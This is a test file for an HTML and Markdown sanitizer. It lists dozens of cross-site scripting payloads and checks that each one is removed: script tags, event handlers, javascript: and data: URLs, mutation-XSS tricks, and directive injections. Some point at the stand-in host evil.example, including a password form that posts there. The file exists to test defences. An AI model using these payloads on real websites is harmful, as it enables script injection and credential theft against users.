import type { Element, Root } from 'hast'
import { describe, expect, it } from 'vitest'
import { outlineOf, parseBody } from './parse-body.ts'

/** Attacks, all of which must be removed. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x OnErRoR="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://example.com" onclick="alert(1)">x</a>',
  '<a href="#" onfocus=alert(1) autofocus tabindex=1>x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<video src="javascript:alert(1)" poster="javascript:alert(2)"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<a href="x" data-island="search">x</a>',
  '<div data-copy-code>x</div>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="x" onmouseover="alert(1)">x</p>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](vbscript:msgbox)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](/a.png){onerror="alert(1)"}',
  '[x](/a){onclick="alert(1)" style="color:red" data-island="search"}',
  '**x**{onclick="alert(1)"}',
  '[x]{onmouseover="alert(1)"}',
  '::script{src="https://evil.example/x.js"}\nalert(1)\n::',
  '::iframe{src="https://evil.example"}\n::',
  '::div{onclick="alert(1)" style="color:red"}\nx\n::',
  '::card{onclick="alert(1)"}\nx\n::',
  '::card{:onclick="alert(1)"}\nx\n::',
  '::card\n---\nonClick: alert(1)\nto: "javascript:alert(1)"\nstyle: "color:red"\n---\nx\n::',
  '::card{to="javascript:alert(1)"}\nx\n::',
  '::card{:to="\'javascript:alert(1)\'"}\nx\n::',
  '::card{srcdoc="<script>alert(1)</script>"}\nx\n::',
  '::card\n<script>alert(1)</script>\n::',
  'a[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
  '<sealed>x</sealed><Sealed>y</Sealed>',
]

const dangerousElements =
  /^(script|style|iframe|object|embed|base|meta|link|form|button|svg|math|textarea|noscript|body|sealed)$/i
const dangerousAttributes = /^[:@]?(on|style|srcdoc|formaction|action|xlink|data(?!Footnote))/i
const dangerousAddress = /^["']?(javascript|vbscript|data:text)/i

function elementsOf(parent: Root | Element): Element[] {
  return parent.children.flatMap((node) => (node.type === 'element' ? [node, ...elementsOf(node)] : []))
}

describe('the sanitizer', () => {
  it.each(attacks)('removes all of %s', (attack) => {
    const { root } = parseBody(`before\n\n${attack}\n\nafter`)
    const elements = elementsOf(root)
    const properties = elements.flatMap((element) => Object.entries(element.properties))
    expect(outlineOf(root)).toMatch(/^<p>before/)
    expect(elements.filter(({ tagName }) => dangerousElements.test(tagName))).toEqual([])
    expect(properties.filter(([name]) => dangerousAttributes.test(name))).toEqual([])
    expect(properties.filter(([, value]) => dangerousAddress.test(String(value).replace(/[\s\u0001]/g, '')))).toEqual(
      [],
    )
  })

  it.each([
    [
      'text elements',
      '<kbd>K</kbd> <mark>m</mark> <sub>2</sub> <abbr title="x">y</abbr>',
      '<p><kbd>K</kbd> <mark>m</mark> <sub>2</sub> <abbr title=x>y</abbr></p>',
    ],
    [
      'details',
      '<details open>\n<summary>More</summary>\n\n**text**\n\n</details>',
      '<details open=true><summary>More</summary><p><strong>text</strong></p></details>',
    ],
    [
      'classes, ids, and languages',
      '<p class="a b" id="c" lang="fr" dir="ltr">x</p>',
      '<p className=a b id=c lang=fr dir=ltr>x</p>',
    ],
    [
      'video',
      '<video src="https://example.com/a.mp4" controls muted></video>',
      '<p><video src=https://example.com/a.mp4 controls=true muted=true></video></p>',
    ],
    ['named anchors', '<a name="here"></a>', '<p><a name=here></a></p>'],
    ['images as data URLs', '![x](data:image/png;base64,AA)', '<p><img src=data:image/png;base64,AA alt=x></img></p>'],
    [
      'email and phone links',
      '[m](mailto:a@b.c) [t](tel:+123)',
      '<p><a href=mailto:a@b.c>m</a> <a href=tel:+123>t</a></p>',
    ],
  ])('keeps %s', (_, body, expected) => {
    const { root, diagnostics } = parseBody(body)
    expect(outlineOf(root)).toBe(expected)
    expect(diagnostics).toEqual([])
  })

  it('keeps the text of disallowed elements', () => {
    expect(outlineOf(parseBody('<marquee>Hello</marquee>').root)).toContain('Hello')
  })

  it('removes ids that belong to the page frame', () => {
    expect(outlineOf(parseBody('<p id="shell:menu" aria-labelledby="shell:menu">x</p>').root)).not.toContain(
      'shell:menu',
    )
  })

  it.each([
    ['<div onclick="x()">a</div>', 'Removed the event handler `onclick`.'],
    ['<script>x</script>', 'Removed the element `<script>`.'],
    ['<p style="color:red">a</p>', 'Removed the attribute `style`.'],
    ['[a](javascript:x)', 'Removed the URL `javascript:x`.'],
    ['[a](slack://channel)', 'Removed the URL `slack://channel`.'],
    ['::card{onclick="x()"}\n::', 'Removed the event handler `onclick`.'],
    ['::card{to="javascript:x"}\n::', 'Removed the URL `javascript:x`.'],
  ])('reports the removal of unsafe content: %s', (body, message) => {
    expect(parseBody(`text\n\n${body}`).diagnostics).toEqual([
      expect.objectContaining({ severity: 'warning', line: 3, column: 1, code: 'unsafe-html', message }),
    ])
  })

  it.each([
    ['<Badge color="info">x</Badge>', '`::badge`'],
    ['## Title <Badge type="tip" />', '`:badge`'],
    ['<LinkBadge />', 'HTML that can run code or load pages is not allowed'],
  ])('suggests component syntax for an element with the name of a component: %s', (body, hint) => {
    expect(parseBody(body).diagnostics).toEqual([
      expect.objectContaining({ code: 'unsafe-html', hint: expect.stringContaining(hint) }),
    ])
  })

  it('reports each problem once', () => {
    expect(parseBody('<center>ok</center>\n\n<Tabs>\n<Tabs>\n\n<Tabs>').diagnostics).toHaveLength(1)
  })
})
